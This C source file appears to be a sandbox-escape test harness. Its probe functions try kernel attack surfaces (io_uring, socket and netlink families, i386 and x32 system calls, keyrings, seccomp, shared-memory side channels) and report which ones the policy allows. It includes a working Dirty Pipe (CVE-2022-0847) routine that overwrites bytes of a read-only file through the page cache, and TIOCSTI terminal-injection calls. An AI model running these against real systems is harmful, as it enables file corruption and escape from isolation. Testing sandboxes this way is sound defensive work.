/* Other surface of the kernel: B3 to B9, B11. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/random.h>

#include "attacks/attack.h"

int attack_uring(int argc, char **argv)
{
	struct io_uring_params params = {0};

	(void)argc;
	(void)argv;
	long fd = syscall(SYS_io_uring_setup, 4u, &params);
	say_result("io_uring_setup", fd);
	say_result("io_uring_enter", syscall(SYS_io_uring_enter, fd, 0u, 0u, 0u, NULL, 0));
	int event_fd = -1;
	say_result("io_uring_register",
		   syscall(SYS_io_uring_register, fd, IORING_REGISTER_FILES, &event_fd, 1u));
	return 0;
}

static long try_vmsplice(void)
{
	char byte = 'x';
	struct iovec vector = {.iov_base = &byte, .iov_len = 1};
	int fds[2];

	if (pipe(fds) < 0)
		return -1;
	return vmsplice(fds[1], &vector, 1, 0);
}

/* CVE-2022-0847: a pipe whose pages may be merged into, one byte of a read-only file spliced in,
 * then a write. argv[0]: a file that we may only read. */
static int dirty_pipe(const char *file)
{
	char before[8] = {0};
	char after[8] = {0};
	char page[4096] = {0};
	int fds[2];

	int fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || pipe(fds) < 0)
		return -1;
	long size = fcntl(fds[1], F_GETPIPE_SZ);
	for (long n = 0; n < size; n += (long)sizeof(page))
		(void)!write(fds[1], page, sizeof(page));
	for (long n = 0; n < size; n += (long)sizeof(page))
		(void)!read(fds[0], page, sizeof(page));
	if (pread(fd, before, sizeof(before), 0) < 2)
		return -1;
	off_t offset = 0;
	if (splice(fd, &offset, fds[1], NULL, 1, 0) != 1)
		return -1;
	(void)!write(fds[1], "\xff\xff", 2);
	int again = open(file, O_RDONLY | O_CLOEXEC);
	(void)!pread(again, after, sizeof(after), 0);
	return memcmp(before, after, sizeof(before)) != 0;
}

int attack_page_cache(int argc, char **argv)
{
	if (argc < 1)
		return 2;
	say_result("userfaultfd", syscall(SYS_userfaultfd, 0u));
	say_result("/dev/userfaultfd", open("/dev/userfaultfd", O_RDWR | O_CLOEXEC));
	say_result("vmsplice", try_vmsplice());
	int r = dirty_pipe(argv[0]);
	if (r < 0)
		say_result("dirty pipe", r);
	else
		say("dirty pipe", "%s", r > 0 ? "changed" : "unchanged");
	return 0;
}

/* Every way to write into the read-only template. argv: files of it. */
int attack_template(int argc, char **argv)
{
	char path[300];

	for (int i = 0; i < argc; i++) {
		(void)snprintf(path, sizeof(path), "write %s", argv[i]);
		say_result(path, open(argv[i], O_WRONLY | O_CLOEXEC));
		(void)snprintf(path, sizeof(path), "%s.escape", argv[i]);
		int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		int number = errno;
		(void)unlink(path);
		errno = number;
		(void)snprintf(path, sizeof(path), "beside %s", argv[i]);
		say_result(path, fd);
		(void)snprintf(path, sizeof(path), "touch %s", argv[i]);
		say_result(path, utimensat(AT_FDCWD, argv[i], NULL, 0));
	}
	return 0;
}

/* Only opened, never connected. Families that the policy knows are left out. */
int attack_sockets(int argc, char **argv)
{
	static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET};
	char step[64];

	(void)argc;
	(void)argv;
	for (int family = 0; family <= 50; family++) {
		int opened = -1;
		int number = 0;

		for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
			int fd = socket(family, types[i] | SOCK_CLOEXEC, 0);
			if (fd >= 0) {
				opened = fd;
				(void)close(fd);
			} else if (i == 0 || errno != EAFNOSUPPORT) {
				number = errno;
			}
		}
		(void)snprintf(step, sizeof(step), "family %d", family);
		errno = number;
		say_result(step, opened);
	}
	say_result("raw ICMP", socket(AF_INET, SOCK_RAW, 1));
	say_result("ping", socket(AF_INET, SOCK_DGRAM, 1));
	int fds[2];
	say_result("socketpair of AF_TIPC", socketpair(30, SOCK_STREAM, 0, fds));
	return 0;
}

static long int80(long number, long a, long b, long c)
{
	long r = number;

	__asm__ volatile("int $0x80"
			 : "+a"(r)
			 : "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	if (r < 0 && r > -4096) {
		errno = (int)-r;
		return -1;
	}
	return r;
}

static long x32(long number)
{
	return syscall(number | 0x40000000L);
}

static long int80_socketcall(int family)
{
	uint32_t *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	if (args == MAP_FAILED)
		return -1;
	args[0] = (uint32_t)family;
	args[1] = SOCK_STREAM;
	args[2] = 0;
	return int80(102, 1, (long)(uintptr_t)args, 0);
}

int attack_foreign_abi(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	FORKED("i386 getpid", int80(20, 0, 0, 0));
	FORKED("i386 unshare user", int80(310, CLONE_NEWUSER, 0, 0));
	FORKED("i386 socketcall vsock", int80_socketcall(40));
	FORKED("i386 socket vsock", int80(359, 40, SOCK_STREAM, 0));
	FORKED("x32 getpid", x32(SYS_getpid));
	return 0;
}

static long try_oob(void)
{
	int fds[2];

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, fds) < 0)
		return -1;
	return send(fds[0], "x", 1, MSG_OOB);
}

/* What is stacked on an ordinary socket, and rarer protocols of the ordinary families. */
int attack_stacked(int argc, char **argv)
{
	const int esp_in_udp = 2;

	(void)argc;
	(void)argv;
	int udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	say_result("UDP_ENCAP", setsockopt(udp, 17, 100, &esp_in_udp, sizeof(esp_in_udp)));
	int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	say_result("TCP_ULP", setsockopt(tcp, 6, 31, "tls", sizeof("tls")));
	say_result("MSG_OOB", try_oob());
	say_result("MPTCP", socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 262));
	say_result("SCTP", socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 132));
	say_result("UDP-Lite", socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 136));
	return 0;
}

/* Code for filters: the host has one room for it, and no share for anybody. */
int attack_filters(int argc, char **argv)
{
	struct sock_filter accept[] = {BPF_STMT(BPF_RET | BPF_K, 0x7fff0000u)};
	const struct sock_fprog program = {.len = 1, .filter = accept};

	(void)argc;
	(void)argv;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	say_result("socket filter",
		   setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof(program)));
	(void)setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &(int){1}, sizeof(int));
	FORKED("filter of a port group",
	       setsockopt(fd, SOL_SOCKET, SO_ATTACH_REUSEPORT_CBPF, &program, sizeof(program)));
	(void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	FORKED("seccomp", syscall(SYS_seccomp, 1u, 0u, &program));
	FORKED("prctl seccomp", prctl(PR_SET_SECCOMP, 2, &program, 0, 0));
	return 0;
}

/* Memory by which two sessions, or a session and the host, can feel each other. */
int attack_shared_memory(int argc, char **argv)
{
	char byte = 0;
	struct iovec vector = {.iov_base = &byte, .iov_len = 1};

	(void)argc;
	(void)argv;
	int fd = open("/usr/bin/env", O_RDONLY | O_CLOEXEC);
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	say_result("merge pages", madvise(page, 4096, MADV_MERGEABLE));
	(void)!pread(fd, &byte, 1, 0);
	say_result("ask the page cache", preadv2(fd, &vector, 1, 0, RWF_NOWAIT));
	uint64_t range[2] = {0, 4096};
	uint64_t cached[5] = {0};
	say_result("cachestat", syscall(451, fd, range, cached, 0u));
	/* Answered truly to an owner of the file, as root is where the layer is idmapped. */
	void *shared = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	unsigned char resident = 0;
	say_result("mincore", mincore(shared, 4096, &resident));
	say_result("deactivate its pages", madvise(shared, 4096, MADV_COLD));
	say_result("throw its pages out", madvise(shared, 4096, MADV_PAGEOUT));
	return 0;
}

int attack_netlink(int argc, char **argv)
{
	char step[64];

	(void)argc;
	(void)argv;
	for (int protocol = 0; protocol <= 22; protocol++) {
		(void)snprintf(step, sizeof(step), "netlink %d", protocol);
		int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, protocol);
		say_result(step, fd);
		if (fd >= 0)
			(void)close(fd);
	}
	return 0;
}

int attack_keyring(int argc, char **argv)
{
	char step[64];

	(void)argc;
	(void)argv;
	FORKED("add_key", syscall(SYS_add_key, "user", "escape", "v", 1, KEY_SPEC_PROCESS_KEYRING));
	FORKED("request_key",
	       syscall(SYS_request_key, "keyring", "_ses", NULL, KEY_SPEC_PROCESS_KEYRING));
	FORKED("keyctl get id",
	       syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_SESSION_KEYRING, 1));
	FORKED("keyctl join", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL));
	for (int operation = 0; operation <= 35; operation++) {
		(void)snprintf(step, sizeof(step), "keyctl %d", operation);
		FORKED(step, syscall(SYS_keyctl, operation, 0, 0, 0, 0));
	}
	return 0;
}

/* argv[0]: serial number of a key in the host's session keyring. */
int attack_host_key(int argc, char **argv)
{
	char text[64];

	if (argc < 1)
		return 2;
	say_result("read by serial number",
		   syscall(SYS_keyctl, KEYCTL_READ, strtol(argv[0], NULL, 10), text, sizeof(text)));
	say_result("find in the session keyring",
		   syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user",
			   "escape-probe", 0));
	return 0;
}

/* On a terminal of our own, which is what makes the call possible where it is allowed. */
/* Questions to the drivers of the devices that everybody may open. */
int attack_devices(int argc, char **argv)
{
	int count = 0;
	struct termios termios;

	(void)argc;
	(void)argv;
	int fd = open("/dev/urandom", O_RDONLY | O_CLOEXEC);
	say_result("RNDGETENTCNT", ioctl(fd, RNDGETENTCNT, &count));
	fd = open("/dev/zero", O_RDONLY | O_CLOEXEC);
	say_result("TCGETS of zero", ioctl(fd, TCGETS, &termios));
	return 0;
}

int attack_terminal(int argc, char **argv)
{
	char byte = 'x';
	int number = 0;

	(void)argc;
	(void)argv;
	int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
	int unlock = 0;
	if (master < 0 || ioctl(master, TIOCSPTLCK, &unlock) < 0 ||
	    ioctl(master, TIOCGPTN, &number) < 0) {
		say_result("terminal", -1);
		return 1;
	}
	char path[32];
	(void)snprintf(path, sizeof(path), "/dev/pts/%d", number);
	pid_t pid = fork();
	if (pid != 0)
		return waitpid(pid, NULL, 0) < 0;
	(void)setsid();
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		say_result("terminal", fd);
	(void)ioctl(fd, TIOCSCTTY, 0);
	say_result("TIOCSTI", syscall(SYS_ioctl, fd, 0x5412ul, &byte));
	say_result("TIOCSTI with high bits", syscall(SYS_ioctl, fd, 0x100005412ul, &byte));
	say_result("TIOCLINUX", syscall(SYS_ioctl, fd, 0x541cul, &byte));
	_exit(0);
}

/* argv: system call numbers that the policy refuses; each with arguments of zero. */
int attack_numbers(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		long number = strtol(argv[i], NULL, 10);
		struct forked forked = forked_begin();

		if (forked.pid == 0) {
			(void)alarm(2);
			forked_end(forked, syscall(number, 0, 0, 0, 0, 0, 0));
		}
		forked_wait(argv[i], forked);
	}
	return 0;
}
